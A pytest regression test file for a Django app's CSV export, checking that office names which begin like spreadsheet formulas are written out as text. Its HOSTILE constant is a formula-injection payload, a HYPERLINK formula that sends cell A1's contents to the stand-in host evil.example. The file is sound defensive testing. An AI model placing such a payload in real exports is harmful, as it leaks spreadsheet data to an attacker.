"""Issue 11 'Why': the CSV export wrote ``=HYPERLINK(...)`` from an office name as
is. A cell that a spreadsheet would read as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from counter.console.views import csv_cell
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"詳細")'


def test_an_office_name_that_is_a_formula_is_exported_as_text(city, supervisor):
    office = f.OfficeFactory(municipality=city, code="evil", name=HOSTILE)
    f.CaseFactory(resident=f.ResidentFactory(municipality=city), office=office)
    client = Client()
    client.force_login(supervisor)
    today = timezone.localdate().isoformat()
    response = client.get(
        "/counter/console/export/counts.csv", {"start": today, "end": today}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    offices = [row[1] for row in rows[1:]]
    assert "'" + HOSTILE in offices
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_that_would_start_a_formula_is_neutralised(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_and_numbers_are_written_as_they_are():
    assert csv_cell("本庁") == "本庁"
    assert csv_cell(12) == 12
